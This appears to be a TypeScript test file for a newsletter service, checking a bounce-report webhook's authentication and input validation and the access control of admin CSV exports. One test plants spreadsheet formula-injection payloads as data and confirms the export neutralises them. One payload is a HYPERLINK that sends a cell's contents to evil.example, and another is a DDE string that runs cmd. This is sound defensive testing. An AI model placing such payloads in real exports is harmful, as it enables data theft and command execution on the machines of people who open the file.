    const valid = JSON.stringify({ bounces: [{ email: f.ada.email, type: "complaint" }] });
    const authCases: [string, Record<string, string>][] = [
      ["no key", ct],
      ["an empty key", { ...ct, "X-SUBAUTH": "" }],
      ["a wrong key", { ...ct, "X-SUBAUTH": `${key.slice(0, -2)}xx` }],
      ["a 10 kB key", { ...ct, "X-SUBAUTH": "k".repeat(10_000) }],
      ["the client key", { ...ct, "X-SUBAUTH": clientKey }],
      ["the key as a bearer token", { ...ct, authorization: `Bearer ${key}` }],
    ];
    for (const [what, headers] of authCases) await expectRefused(await report(valid, headers), 401, what);

    const auth = { ...ct, "X-SUBAUTH": key };
    const cases: [string, BodyInit, Record<string, string>, number][] = [
      ["text/plain", valid, { "X-SUBAUTH": key, "content-type": "text/plain" }, 415],
      ["no content type", valid, { "X-SUBAUTH": key }, 415],
      ["malformed JSON", "{", auth, 400],
      ["an array", JSON.stringify([{ email: f.ada.email, type: "bounce" }]), auth, 400],
      ["a string", '"bounce"', auth, 400],
      ["null", "null", auth, 400],
      ["no reports", JSON.stringify({ bounces: [] }), auth, 400],
      [
        "1,001 reports",
        JSON.stringify({
          bounces: Array.from({ length: 1001 }, (_, i) => ({ email: `r${i}@example.com`, type: "bounce" })),
        }),
        auth,
        400,
      ],
      ["a bad type", JSON.stringify({ bounces: [{ email: f.ada.email, type: "soft" }] }), auth, 400],
      [
        "a line break in the address",
        JSON.stringify({ bounces: [{ email: `${f.ada.email}\r\nX: 1`, type: "bounce" }] }),
        auth,
        400,
      ],
      [
        "a homoglyph address",
        JSON.stringify({ bounces: [{ email: f.ada.email.replace("e", "\u0435"), type: "bounce" }] }),
        auth,
        400,
      ],
      [
        "a 10 kB detail",
        JSON.stringify({ bounces: [{ email: f.ada.email, type: "bounce", detail: "x".repeat(10_000) }] }),
        auth,
        400,
      ],
      [
        "one bad report among good ones",
        JSON.stringify({
          bounces: [
            { email: f.ada.email, type: "bounce" },
            { email: "nope", type: "bounce" },
          ],
        }),
        auth,
        400,
      ],
      ["nested 10,000 deep", `{"bounces":${"[".repeat(10_000)}${"]".repeat(10_000)}}`, auth, 400],
      [
        "over 256 kB",
        JSON.stringify({ bounces: [{ email: f.ada.email, type: "bounce", detail: "x".repeat(300_000) }] }),
        auth,
        413,
      ],
    ];
    for (const [what, body, headers, status] of cases) await expectRefused(await report(body, headers), status, what);
    expect(await snapshot(f.db)).toBe(before);

    // Another account's key reports for that account only: this account's reader is untouched.
    const elsewhere = await report(valid, { ...ct, "X-SUBAUTH": otherKey });
    expect(elsewhere.status).toBe(200);
    expect(await f.db.newsletterSubscription.findFirstOrThrow({ where: { id: f.adaDaily.id } })).toMatchObject({
      status: "ACTIVE",
    });
    expect(await f.db.emailSuppression.count({ where: { accountId: f.account.id } })).toBe(0);
  });
});

describe("the CSV downloads", () => {
  const csvLines = async (res: Response) =>
    (await res.text())
      .replace(/^\uFEFF/, "")
      .split("\r\n")
      .filter(Boolean);
  /** The fields of one CSV line (RFC 4180 quoting; no line breaks inside fields here). */
  const csvFields = (line: string) =>
    [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map(([, f]) =>
      f!.startsWith('"') ? f!.slice(1, -1).replaceAll('""', '"') : f!,
    );
  const sends = (id: string) =>
    sendsCsvRoute.GET(new Request(`http://localhost/api/admin/newsletters/${encodeURIComponent(id)}/sends.csv`), {
      params: Promise.resolve({ id }),
    });
  const deliveries = (id: string, sendId: string) =>
    DELIVERIES_CSV(
      new Request(
        `http://localhost/api/admin/newsletters/${encodeURIComponent(id)}/sends/${encodeURIComponent(sendId)}/deliveries.csv`,
      ),
      {
        params: Promise.resolve({ id, sendId }),
      },
    );

  it("refuse no session (401), another role (403), another account's ids (404) and bad ids (400)", async () => {
    const f = await setup();
    const editor = await createTestStaff(f.db, { account: f.account.id, roles: ["EDITOR"] });
    const moderator = await createTestStaff(f.db, { account: f.account.id, roles: ["MODERATOR"] });
    const before = await snapshot(f.db);
    const [id, sendId, otherId, otherSendId] = [f.daily.id, f.send.id, f.otherDaily.id, f.otherSend.id].map(String) as [
      string,
      string,
      string,
      string,
    ];

    session.current = null;
    await expectRefused(await sends(id), 401, "sends without a session");
    await expectRefused(await deliveries(id, sendId), 401, "deliveries without a session");
    session.current = moderator.session;
    await expectRefused(await sends(id), 403, "sends as a moderator");
    await expectRefused(await deliveries(id, sendId), 403, "deliveries as a moderator");

    session.current = editor.session;
    await expectRefused(await sends(otherId), 404, "another account's newsletter");
    await expectRefused(await deliveries(otherId, otherSendId), 404, "another account's send");
    await expectRefused(await deliveries(id, otherSendId), 404, "another account's send under this newsletter");
    await expectRefused(await deliveries(otherId, sendId), 404, "this send under another account's newsletter");
    await expectRefused(await deliveries(String(f.weekly.id), sendId), 404, "this send under another newsletter");
    for (const bad of ["%E0%A4%A", "1%00", "1e3x", "-1", "0", "2147483648", "9".repeat(400), "1.5", "abc", ""]) {
      await expectRefused(await sends(bad), 400, `sends of "${bad}"`);
      await expectRefused(await deliveries(id, bad), 400, `deliveries of "${bad}"`);
    }
    for (const query of [
      "?from=2026-11-01",
      "?from=2026-02-30&to=2026-03-01",
      "?from=2020-01-01&to=2026-01-01",
      "?from=%E0%A4%A&to=x",
    ]) {
      const res = await sendsCsvRoute.GET(
        new Request(`http://localhost/api/admin/newsletters/${id}/sends.csv${query}`),
        {
          params: Promise.resolve({ id }),
        },
      );
      await expectRefused(res, 400, `range ${query}`);
    }
    for (const method of ["POST", "PUT", "PATCH", "DELETE"] as const) {
      const res = await call(sendsCsvRoute[method], method, `/api/admin/newsletters/${id}/sends.csv`, { id }, {});
      expect(res.headers.get("allow")).toBe("GET, HEAD, OPTIONS");
      await expectRefused(res, 405, `${method} sends.csv`);
    }
    expect(await snapshot(f.db)).toBe(before);
  });

  it("neutralise formulas in subjects, addresses, errors and subscriber names", async () => {
    const f = await setup();
    const editor = await createTestStaff(f.db, { account: f.account.id, roles: ["EDITOR", "REVENUE"] });
    const payloads = {
      subject: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      email: "-2+3@example.com",
      error: "@SUM(1+1)*cmd|' /C calc'!A0",
    };
    const evil = await f.db.member.create({
      data: { accountId: f.account.id, name: "Evil", email: payloads.email, passwordHash: "-" },
    });
    const { send } = await insertTestSend(f.db, f.daily, [evil], {
      subject: payloads.subject,
      outcomes: [{ status: "FAILED" }],
    });
    await f.db.newsletterDelivery.updateMany({ where: { sendId: send.id }, data: { lastError: payloads.error } });
    // A reader signs up with a formula for a name.
    forgetRateLimits();
    const signUp = await call(
      subscribeRoute.POST,
      "POST",
      "/api/newsletters/subscribe",
      {},
      {
        account_id: f.account.id,
        email: "formula@example.com",
        newsletters: ["daily"],
        name: '=HYPERLINK("https://evil.example","Invoice")',
      },
    );
    expect(signUp.status).toBe(202);

    session.current = editor.session;
    const sendLines = await csvLines(await sends(String(f.daily.id)));
    expect(sendLines.find((l) => l.startsWith(`${send.id},`))).toContain(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`,
    );
    const mailLines = await csvLines(await deliveries(String(f.daily.id), String(send.id)));
    expect(mailLines[1]).toMatch(/^'-2\+3@example\.com,failed,/);
    expect(csvFields(mailLines[1]!).at(-1)).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");

    const exported = await EXPORT_CSV(new Request("http://localhost/api/admin/exports/subscribers.csv?who=all"), {
      params: Promise.resolve({ export_file: "subscribers.csv" }),
    });
    expect(exported.status).toBe(200);
    const formulaLine = (await csvLines(exported)).find((l) => l.includes("formula@example.com"))!;
    expect(csvFields(formulaLine)).toContain(`'=HYPERLINK("https://evil.example","Invoice")`);
    // No field anywhere starts with a formula character.
    for (const line of [...sendLines, ...mailLines, formulaLine]) {
      for (const field of csvFields(line)) expect(field, line).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
